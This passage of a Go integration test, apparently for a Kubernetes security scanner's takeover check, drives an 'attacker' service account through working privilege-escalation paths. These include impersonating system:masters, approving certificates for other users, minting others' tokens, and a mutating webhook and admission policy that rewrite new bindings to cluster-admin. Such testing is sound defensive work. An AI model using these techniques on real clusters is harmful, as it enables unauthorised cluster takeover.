					ObjectMeta: metav1.ObjectMeta{Name: a.name}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: a.name}, Subjects: []rbacv1.Subject{a.account},
				}, metav1.CreateOptions{})
				return err
			},
		},
		"impersonating-another-group": {
			[]rbacv1.PolicyRule{named(on("", "users", "impersonate"), "nobody"), named(on("", "groups", "impersonate"), "auditors")},
			func(a attacker) error {
				_, err := a.as("nobody", "system:masters").CoreV1().Nodes().List(a.Context(), metav1.ListOptions{})
				return err
			},
		},
		"impersonating-groups-alone": {
			[]rbacv1.PolicyRule{on("", "groups", "impersonate")},
			func(a attacker) error {
				config := rest.CopyConfig(a.config)
				config.Impersonate = rest.ImpersonationConfig{UserName: "someone", Groups: []string{"system:masters"}}
				_, err := clientFor(a.T, config).CoreV1().Nodes().List(a.Context(), metav1.ListOptions{})
				return err
			},
		},
		"impersonating-masters-for-some-requests": {
			[]rbacv1.PolicyRule{
				named(on(authenticationv1.GroupName, "users", "impersonate:user-info"), "nobody"),
				named(on(authenticationv1.GroupName, "groups", "impersonate:user-info"), "system:masters"),
				on(rbacv1.GroupName, "clusterrolebindings", "impersonate-on:user-info:create"),
			},
			func(a attacker) error { return a.tryBind(a.as("nobody", "system:masters"), "cluster-admin") },
		},
		"impersonating-for-requests-of-another-mode": {
			[]rbacv1.PolicyRule{
				on(authenticationv1.GroupName, "serviceaccounts", "impersonate:serviceaccount"),
				on(rbacv1.GroupName, "clusterroles", "impersonate-on:user-info:get", "impersonate-on:user-info:update"),
			},
			func(a attacker) error { return a.tryRaise(a.as("system:serviceaccount:kube-system:" + aggregator)) },
		},
		"approving-for-another-signer": {
			[]rbacv1.PolicyRule{
				on("certificates.k8s.io", "certificatesigningrequests", "create"), on("certificates.k8s.io", "certificatesigningrequests/approval", "update"),
				{Verbs: []string{"approve"}, APIGroups: []string{"certificates.k8s.io"}, Resources: []string{"signers"}, ResourceNames: []string{"shop.example/internal"}},
			},
			func(a attacker) error {
				request, err := a.request("system:kube-controller-manager")
				if err != nil {
					return err
				}
				return a.approve(request)
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			a := newAttacker(t, c, admin, name, tt.rules, "", false)
			if err := tt.take(a); !apierrors.IsForbidden(err) {
				t.Errorf("the API server answers %v", err)
			}
			inv := inventory(t, c)
			inv.Workloads = []snapshot.InventoryWorkload{{Kind: "Deployment", Namespace: "default", Name: a.name, ServiceAccount: a.name, Token: true}}
			if found := takeovers(t, inv, "test"); len(found) > 0 {
				t.Errorf("KM3004 says %v", found)
			}
		})
	}
}

func newAttacker(t *testing.T, c *cluster.Cluster, admin kubernetes.Interface, name string, rules []rbacv1.PolicyRule, in string, byRole bool) attacker {
	t.Helper()
	a := attacker{T: t, name: name, server: c, admin: admin, account: rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: "default", Name: name}}
	meta, none := metav1.ObjectMeta{Name: name}, metav1.CreateOptions{}
	_, err := admin.CoreV1().ServiceAccounts("default").Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: meta}, none)
	a.check(err)
	role, subjects := rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name}, []rbacv1.Subject{a.account}
	if byRole {
		role.Kind = "Role"
		_, err = admin.RbacV1().Roles(in).Create(t.Context(), &rbacv1.Role{ObjectMeta: meta, Rules: rules}, none)
	} else {
		_, err = admin.RbacV1().ClusterRoles().Create(t.Context(), &rbacv1.ClusterRole{ObjectMeta: meta, Rules: rules}, none)
	}
	a.check(err)
	if in == "" {
		_, err = admin.RbacV1().ClusterRoleBindings().Create(t.Context(), &rbacv1.ClusterRoleBinding{ObjectMeta: meta, RoleRef: role, Subjects: subjects}, none)
	} else {
		_, err = admin.RbacV1().RoleBindings(in).Create(t.Context(), &rbacv1.RoleBinding{ObjectMeta: meta, RoleRef: role, Subjects: subjects}, none)
	}
	a.check(err)
	token, err := admin.CoreV1().ServiceAccounts("default").CreateToken(t.Context(), name, &authenticationv1.TokenRequest{}, none)
	a.check(err)
	a.config = a.with(token.Status.Token)
	a.client = clientFor(t, a.config)
	for _, r := range rules {
		asked := action{Verb: r.Verbs[0], Namespace: in, Group: r.APIGroups[0], Name: append(slices.Clone(r.ResourceNames), "")[0]}
		asked.Resource, asked.Subresource, _ = strings.Cut(r.Resources[0], "/")
		a.await(asked)
	}
	return a
}

func (a attacker) check(err error) {
	a.Helper()
	if err != nil {
		a.Fatal(err)
	}
}

// with is the way to the server with another's token.
func (a attacker) with(token string) *rest.Config {
	return &rest.Config{Host: a.server.Admin.Host, BearerToken: token, TLSClientConfig: rest.TLSClientConfig{CAData: world.ca.PEM()}, QPS: -1}
}

// await asks until the attacker may make the request: the authorizer learns of new rights a moment later.
func (a attacker) await(r action) {
	a.Helper()
	ctx, cancel := context.WithTimeout(a.Context(), time.Minute)
	defer cancel()
	review := &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{
		Verb: r.Verb, Namespace: r.Namespace, Group: r.Group, Resource: r.Resource, Subresource: r.Subresource, Name: r.Name,
	}}}
	for {
		answer, err := a.client.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, review, metav1.CreateOptions{})
		if err != nil {
			a.Fatalf("%s may not do %+v: %v", a.name, r, err)
		}
		if answer.Status.Allowed {
			return
		}
	}
}

// as acts as another, by impersonation.
func (a attacker) as(user string, groups ...string) kubernetes.Interface {
	config := rest.CopyConfig(a.config)
	config.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: groups}
	return clientFor(a.T, config)
}

// bind binds the attacker to a cluster role.
func (a attacker) bind(role string) {
	a.Helper()
	a.check(a.tryBind(a.client, role))
}

func (a attacker) tryBind(by kubernetes.Interface, role string) error {
	_, err := by.RbacV1().ClusterRoleBindings().Create(a.Context(), &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: a.name + "-more"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
		Subjects: []rbacv1.Subject{a.account},
	}, metav1.CreateOptions{})
	return err
}

// powerfulPod is one that somebody else runs, under a service account that may do everything.
func (a attacker) powerfulPod() *corev1.Pod {
	a.Helper()
	pod, err := a.admin.CoreV1().Pods("default").Create(a.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: podOf("everything")}, metav1.CreateOptions{})
	a.check(err)
	return pod
}

// inPod gives a client with the token that the kubelet asks for, and that is then in the pod.
func (a attacker) inPod(pod *corev1.Pod) kubernetes.Interface {
	a.Helper()
	token, err := a.admin.CoreV1().ServiceAccounts(pod.Namespace).CreateToken(a.Context(), pod.Spec.ServiceAccountName, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{BoundObjectRef: &authenticationv1.BoundObjectReference{APIVersion: "v1", Kind: "Pod", Name: pod.Name, UID: pod.UID}},
	}, metav1.CreateOptions{})
	a.check(err)
	return clientFor(a.T, a.with(token.Status.Token))
}

// issue gives a client with a token of the aggregator.
func (a attacker) issue(by kubernetes.Interface) kubernetes.Interface {
	a.Helper()
	token, err := by.CoreV1().ServiceAccounts("kube-system").CreateToken(a.Context(), aggregator, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	a.check(err)
	return clientFor(a.T, a.with(token.Status.Token))
}

// issueOf gives a client with a token of another service account of the attacker's namespace.
func (a attacker) issueOf(account string) kubernetes.Interface {
	a.Helper()
	token, err := a.client.CoreV1().ServiceAccounts("default").CreateToken(a.Context(), account, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	a.check(err)
	return clientFor(a.T, a.with(token.Status.Token))
}

// tokenInSecret gives a client with the token of a Secret that the attacker makes and reads.
func (a attacker) tokenInSecret(namespace, account string) kubernetes.Interface {
	a.Helper()
	secret, err := a.client.CoreV1().Secrets(namespace).Create(a.Context(), tokenSecret("mine", account), metav1.CreateOptions{})
	a.check(err)
	a.fill(secret)
	secret, err = a.client.CoreV1().Secrets(namespace).Get(a.Context(), "mine", metav1.GetOptions{})
	a.check(err)
	return clientFor(a.T, a.with(string(secret.Data[corev1.ServiceAccountTokenKey])))
}

func tokenSecret(name, account string) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: map[string]string{corev1.ServiceAccountNameKey: account}}, Type: corev1.SecretTypeServiceAccountToken,
	}
}

// fill puts the token into the Secret, as the token controller does.
func (a attacker) fill(secret *corev1.Secret) {
	a.Helper()
	account := secret.Annotations[corev1.ServiceAccountNameKey]
	token, err := a.admin.CoreV1().ServiceAccounts(secret.Namespace).CreateToken(a.Context(), account, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	a.check(err)
	secret.Data = map[string][]byte{corev1.ServiceAccountTokenKey: []byte(token.Status.Token)}
	_, err = a.admin.CoreV1().Secrets(secret.Namespace).Update(a.Context(), secret, metav1.UpdateOptions{})
	a.check(err)
}

// raiseIn gives the attacker's own Role every right in its namespace.
func (a attacker) raiseIn(namespace string) {
	a.Helper()
	role, err := a.client.RbacV1().Roles(namespace).Get(a.Context(), a.name, metav1.GetOptions{})
	a.check(err)
	role.Rules = everything
	_, err = a.client.RbacV1().Roles(namespace).Update(a.Context(), role, metav1.UpdateOptions{})
	a.check(err)
	a.await(action{Verb: "create", Namespace: namespace, Resource: "serviceaccounts", Subresource: "token"})
}

// raise gives the attacker's own role every right.
func (a attacker) raise(by kubernetes.Interface) {
	a.Helper()
	a.check(a.tryRaise(by))
}

func (a attacker) tryRaise(by kubernetes.Interface) error {
	role, err := by.RbacV1().ClusterRoles().Get(a.Context(), a.name, metav1.GetOptions{})
	if err != nil {
		return err
	}
	role.Rules = everything
	_, err = by.RbacV1().ClusterRoles().Update(a.Context(), role, metav1.UpdateOptions{})
	return err
}

// certified gives a client with a certificate of another, that the attacker has asked for and approved.
func (a attacker) certified(user string) kubernetes.Interface {
	a.Helper()
	request, err := a.request(user)
	a.check(err)
	a.check(a.approve(request))
	// The signer signs what is approved.
	if request, err = a.admin.CertificatesV1().CertificateSigningRequests().Get(a.Context(), a.name, metav1.GetOptions{}); err != nil || len(request.Status.Conditions) != 1 {
		a.Fatalf("the request is %+v: %v", request, err)
	}
	cert, key := world.ca.ClientCertificate(user)
	config := a.with("")
	config.CertData, config.KeyData = cert, key
	return clientFor(a.T, config)
}

// request asks for a certificate of another.
func (a attacker) request(user string) (*certificatesv1.CertificateSigningRequest, error) {
	a.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	a.check(err)
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user}}, key)
	a.check(err)
	return a.client.CertificatesV1().CertificateSigningRequests().Create(a.Context(), &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{Name: a.name},
		Spec: certificatesv1.CertificateSigningRequestSpec{
			Request: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), SignerName: certificatesv1.KubeAPIServerClientSignerName,
			Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth},
		},
	}, metav1.CreateOptions{})
}

func (a attacker) approve(request *certificatesv1.CertificateSigningRequest) error {
	request.Status.Conditions = []certificatesv1.CertificateSigningRequestCondition{{Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "Mine"}}
	_, err := a.client.CertificatesV1().CertificateSigningRequests().UpdateApproval(a.Context(), request.Name, request, metav1.UpdateOptions{})
	return err
}

// webhook is one that makes the attacker cluster-admin by each binding that it sees.
func (a attacker) webhook() *admissionregistrationv1.MutatingWebhookConfiguration {
	a.Helper()
	patch, err := json.Marshal([]map[string]any{
		{"op": "replace", "path": "/roleRef/name", "value": "cluster-admin"}, {"op": "replace", "path": "/subjects", "value": []rbacv1.Subject{a.account}},
	})
	a.check(err)
	hook := world.ca.Serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var review admissionv1.AdmissionReview
		if err := json.NewDecoder(r.Body).Decode(&review); err != nil || review.Request == nil {
			http.Error(w, "no review", http.StatusBadRequest)
			return
		}
		kind := admissionv1.PatchTypeJSONPatch
		review.Response = &admissionv1.AdmissionResponse{UID: review.Request.UID, Allowed: true, Patch: patch, PatchType: &kind}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(review)
	}), "127.0.0.1")
	a.Cleanup(hook.Close)
	a.Cleanup(func() {
		_ = a.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(context.WithoutCancel(a.Context()), a.name, metav1.DeleteOptions{})
	})
	sideEffects, fail := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Fail
	return &admissionregistrationv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: a.name},
		Webhooks: []admissionregistrationv1.MutatingWebhook{{
			Name: "mine.shop.example", SideEffects: &sideEffects, FailurePolicy: &fail, AdmissionReviewVersions: []string{"v1"},
			ClientConfig:   admissionregistrationv1.WebhookClientConfig{URL: &hook.URL, CABundle: world.ca.PEM()},
			ObjectSelector: a.innocent(), Rules: []admissionregistrationv1.RuleWithOperations{bindingsMade},
		}},
	}
}

// mutate makes a policy that does as the webhook.
func (a attacker) mutate() {
	a.Helper()
	policies, fail := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies(), admissionregistrationv1.Fail
	_, err := policies.Create(a.Context(), &admissionregistrationv1.MutatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: a.name},
		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{
			FailurePolicy: &fail, ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
			MatchConstraints: &admissionregistrationv1.MatchResources{
				ObjectSelector: a.innocent(), ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{RuleWithOperations: bindingsMade}},
			},
			Mutations: []admissionregistrationv1.Mutation{{
				PatchType: admissionregistrationv1.PatchTypeJSONPatch,
				JSONPatch: &admissionregistrationv1.JSONPatch{Expression: fmt.Sprintf(`[
					JSONPatch{op: "replace", path: "/roleRef/name", value: "cluster-admin"},
					JSONPatch{op: "replace", path: "/subjects", value: [Object.subjects{kind: "ServiceAccount", namespace: "default", name: %q}]},
				]`, a.name)},
			}},
		},
	}, metav1.CreateOptions{})
	a.check(err)
	a.Cleanup(func() { _ = policies.Delete(context.WithoutCancel(a.Context()), a.name, metav1.DeleteOptions{}) })
	_, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(a.Context(), &admissionregistrationv1.MutatingAdmissionPolicyBinding{
		ObjectMeta: metav1.ObjectMeta{Name: a.name}, Spec: admissionregistrationv1.MutatingAdmissionPolicyBindingSpec{PolicyName: a.name},
	}, metav1.CreateOptions{})
	a.check(err)
	a.intercept()
}

// innocent selects the bindings that the attacker rewrites: the other attackers' are theirs.
func (a attacker) innocent() *metav1.LabelSelector {
	return &metav1.LabelSelector{MatchLabels: map[string]string{"app": a.name}}
}

var bindingsMade = admissionregistrationv1.RuleWithOperations{
	Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
	Rule:       admissionregistrationv1.Rule{APIGroups: []string{rbacv1.GroupName}, APIVersions: []string{"v1"}, Resources: []string{"clusterrolebindings"}},
}

// intercept waits for a binding that the administrator makes, and that makes the attacker cluster-admin.
func (a attacker) intercept() {
	a.Helper()
	ctx, cancel := context.WithTimeout(a.Context(), time.Minute)
	defer cancel()
	for i := 0; ; i++ { // until the API server has learnt of what changes it
		b, err := a.admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprint(a.name, "-innocent-", i), Labels: map[string]string{"app": a.name}},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
			Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "auditor"}},
		}, metav1.CreateOptions{})
		a.check(err)
		if b.RoleRef.Name == "cluster-admin" {
			return
		}
	}
}

// takeovers are KM3004's messages, by the workload's name.
func takeovers(t *testing.T, inv snapshot.Inventory, provider string) map[string]string {
	t.Helper()
	engine := ownEngine(t)
	found := map[string]string{}
	j := engine.Cluster(t.Context(), inv, policy.Cluster{Provider: provider, Version: cluster.Version}, func(c finding.Check) bool { return c.ID != "KM3004" })
	for _, f := range j.Findings {
		found[f.Object.Name] = f.Message
	}
	return found
}

// waysOfThePack are the names of what the pack calls a takeover.
func waysOfThePack(t *testing.T) []string {
	t.Helper()
	rs, err := rego.New(rego.Load([]string{"../../policies/lib/takeover.rego", "../../policies/lib/version.rego"}, nil), rego.Query("[way.name | some way in data.kubemuster.lib.takeover.ways]")).Eval(t.Context())
	if err != nil || len(rs) != 1 {
		t.Fatal(err)
	}
	var names []string
	for _, name := range rs[0].Expressions[0].Value.([]any) {
		names = append(names, name.(string))
	}
	return names
}
